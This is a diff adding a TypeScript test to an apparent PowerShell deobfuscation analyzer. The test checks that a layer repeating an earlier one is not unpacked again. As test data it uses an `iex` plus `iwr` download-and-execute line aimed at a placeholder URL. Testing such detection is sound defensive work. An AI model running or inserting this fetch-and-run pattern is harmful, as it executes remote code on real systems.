@@ -243,3 +243,20 @@ test('Invoke-Obfuscation idioms: variable-name iex, [string]::Join of char codes
     assertPayload(run, URL_1);
   }
 });
+
+test('a layer that repeats an earlier one is not peeled again', async () => {
+  const config = defaultConfig();
+  const inner = `iwr '${URL_1}'`;
+  const parentText = `iex "${inner}"`;
+  const ctx = { limits: config.limits, signal: new AbortController().signal } as unknown as Parameters<typeof powershellAnalyzer.analyze>[1];
+  const data = new TextEncoder().encode(parentText);
+  const hash = (await import('node:crypto')).createHash('sha256').update(inner).digest('hex');
+  const artifact = { id: 'a3', parent: 'a2', relation: 'decoded' as const, kind: 'powershell', name: 'layer', sha256: '', size: data.length, depth: 2, data, meta: { layer: 2, ancestry: [hash] } };
+  const result = await powershellAnalyzer.analyze(artifact, ctx);
+  assert.equal(result.children?.filter((c) => c.kind === 'powershell').length, 0, 'no child for a layer seen above');
+  assert.equal(result.facts?.repeatedLayer, true);
+  const fresh = await powershellAnalyzer.analyze({ ...artifact, meta: { layer: 2, ancestry: [] } }, ctx);
+  const child = fresh.children?.find((c) => c.kind === 'powershell');
+  assert.deepEqual(child?.meta?.ancestry, [(await import('node:crypto')).createHash('sha256').update(parentText).digest('hex')]);
+  assert.equal(child?.meta?.layer, 3);
+});
